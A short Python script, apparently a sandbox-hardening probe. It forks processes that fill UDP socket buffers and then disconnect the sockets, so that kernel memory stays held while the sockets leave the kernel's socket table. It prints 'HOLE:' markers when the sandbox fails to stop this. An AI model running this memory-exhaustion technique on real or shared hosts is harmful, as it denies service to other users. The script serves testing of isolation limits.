import os
import sys

if os.getuid() == 0:     # only inside a sandbox, which is never root
    print("HOLE: sees_the_authors_machine")
    sys.exit(3)
import ctypes
import socket
import time

# A socket that is disconnected leaves the kernel's table of UDP sockets, and keeps what it received.
libc = ctypes.CDLL(None)
server = socket.create_server(("localhost", 6379))
held, full = [], 0
for child in range(4):
    if not os.fork():
        server.close()
        try:
            while True:
                one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                one.bind(("127.0.0.1", 0))
                for _ in range(400):
                    one.sendto(b"x" * 1400, one.getsockname())
                libc.connect(one.fileno(), bytes(16), 16)
                held.append(one)
        except OSError:
            pass
        time.sleep(30)
client, _ = server.accept()
client.recv(100)
time.sleep(2.0)
print("HOLE: it was let go on with its sockets", flush=True)
time.sleep(30)
